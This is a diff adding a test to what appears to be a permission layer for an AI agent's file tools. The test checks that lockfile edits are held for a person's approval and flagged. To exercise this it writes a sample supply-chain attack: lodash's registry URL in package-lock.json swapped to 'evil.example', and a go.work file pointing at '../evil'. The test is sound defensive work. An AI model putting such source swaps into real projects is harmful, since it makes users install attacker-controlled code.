@@ -138,3 +138,32 @@ test('a manifest the edit leaves unreadable is a question, and no earlier answer
   assert.equal(again.isError, true, 'asked again and refused');
   assert.equal(asked.length, 2);
 });
+
+test('an edit of a lockfile by any file tool is asked about with its reason, and flagged', async () => {
+  const { ws, call, asked, flagged } = await setup(['deny', 'deny', 'once']);
+  const lock = `${JSON.stringify({ packages: { 'node_modules/lodash': { resolved: 'https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz' } } }, null, 2)}\n`;
+  await ws.write('package-lock.json', lock);
+  const swapped = lock.replace(
+    'https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz',
+    'https://evil.example/lodash.tgz',
+  );
+  const written = await call('write_file', { path: 'package-lock.json', content: swapped });
+  assert.equal(written.isError, true);
+  assert.equal(await ws.read('package-lock.json'), lock, 'the swapped URL never landed');
+  assert.match(asked[0] ?? '', /package-lock\.json is a lockfile: .*fetch it unchecked/);
+  const patch = [
+    '*** Begin Patch',
+    '*** Add File: go.work',
+    '+go 1.22',
+    '+use ../evil',
+    '*** End Patch',
+  ].join('\n');
+  assert.equal((await call('apply_patch', { patch })).isError, true);
+  assert.match(asked[1] ?? '', /go\.work is a lockfile/);
+  // A person may still say yes.
+  assert.equal((await call('write_file', { path: 'Cargo.lock', content: '# edited\n' })).isError, false);
+  assert.deepEqual(
+    flagged().map((e) => e.rule),
+    ['package-source-edit', 'package-source-edit', 'package-source-edit'],
+  );
+});
